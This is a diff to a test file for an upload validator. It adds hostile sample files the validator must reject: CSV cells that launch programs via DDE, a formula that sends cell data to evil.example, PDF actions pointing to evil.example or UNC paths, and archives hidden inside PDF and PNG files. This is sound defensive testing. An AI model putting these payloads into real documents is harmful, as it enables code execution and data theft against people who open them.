@@ -2,7 +2,7 @@
 
 import zlib
 
-from pikepdf import Array, Dictionary, String
+from pikepdf import Array, Dictionary, Name, String
 
 from responses.probe.faults import Fault
 from tests.responses.uploads.making import (
@@ -13,6 +13,7 @@ from tests.responses.uploads.making import (
     SHELL,
     action,
     annotated,
+    around,
     chunk,
     embedded_without_type,
     escaped,
@@ -23,10 +24,21 @@ from tests.responses.uploads.making import (
     png,
     protected,
     root,
+    steps_without_end,
+    streamed,
+    with_last_chunk,
 )
 from tests.responses.uploads.ordinary import pdf, picture, picture_and_film
 
 OTHER = Fault.OTHER_KIND
+WEB = Dictionary(S=Name.URI, URI=String("https://evil.example"))
+LATER_STEPS = {
+    "in the third step": lambda: root(OpenAction=action("GoTo", Next=action("GoTo", Next=WEB))),
+    "in a list of steps": lambda: root(OpenAction=action("GoTo", Next=Array([action("GoTo"), WEB]))),
+    "after a page is shown": lambda: page(AA=Dictionary(O=action("GoTo", Next=WEB))),
+    "after steps without an end": steps_without_end,
+    "as a thread": lambda: root(OpenAction=action("Thread", F=String("\\\\evil\\a.pdf"))),
+}
 # What it is, the name it comes under, how to build it, why it is refused.
 HOSTILE = [
     ("nothing at all", "a.pdf", bytes, Fault.EMPTY),
@@ -50,6 +62,10 @@ HOSTILE = [
     ("a cell that starts a program", "a.csv", lambda: b"a,b\n1,=cmd|' /C calc'!A0\n", Fault.DDE),
     ("a sum that starts a program", "a.csv", lambda: b"a;b\n\"@SUM(1+9)*cmd|' /C calc'!A0\";2\n", Fault.DDE),
     ("a cell that starts a program, far down", "a.csv", lambda: b"x" * 65_530 + b"\n=cmd|' /C calc'!A0", Fault.DDE),
+    ("a program after a comma", "a.csv", lambda: b"a,b\n1,\"=IF(1,cmd|' /C calc'!A0)\"\n", Fault.DDE),
+    ("a program far into its cell", "a.csv", lambda: b"=1+" + b"1+" * 40_000 + b"cmd|' /C calc'!A0\n", Fault.DDE),
+    ("a cell that asks a server", "a.csv", lambda: b'a\n"=WebService(""https://evil.example/""&A1)"\n', Fault.LOADS),
+    ("a cell that loads a page", "a.csv", lambda: b"a;b\n1;=IMPORTXML(A1;A2)\n", Fault.LOADS),
     ("an archive behind a PDF", "a.pdf", lambda: pdf() + ARCHIVE, Fault.TWO_FILES),
     ("a page behind a PDF", "a.pdf", lambda: pdf() + SCRIPT_PAGE, Fault.TWO_FILES),
     (
@@ -114,6 +130,12 @@ HOSTILE = [
         lambda: page(AA=Dictionary(O=action("GoToR", F=String("\\\\evil\\a")))),
         Fault.ACTION,
     ),
+    *[(f"a page that is opened {when}", "a.pdf", build, Fault.ACTION) for when, build in LATER_STEPS.items()],
+    ("a script of a drawing in space", "a.pdf", lambda: streamed(OnInstantiate=String("x")), Fault.SCRIPT),
+    ("content in another file", "a.pdf", lambda: streamed(F=String("\\\\evil\\a")), Fault.LOADS),
+    ("a page of another file", "a.pdf", lambda: streamed(Ref=Dictionary(F=String("a.pdf"), Page=0)), Fault.LOADS),
+    ("an archive within a PDF", "a.pdf", lambda: pdf() + around(ARCHIVE, b"\n%%EOF"), Fault.TWO_FILES),
+    ("an archive within a PNG", "a.png", lambda: with_last_chunk(ARCHIVE), Fault.TWO_FILES),
     ("a program in a PDF", "a.pdf", pdf_with_file, Fault.EMBEDDED),
     ("a text in a PDF", "a.pdf", lambda: pdf_with_file("a.txt", b"a"), Fault.EMBEDDED),
     ("a program in a PDF, unnamed", "a.pdf", embedded_without_type, Fault.EMBEDDED),
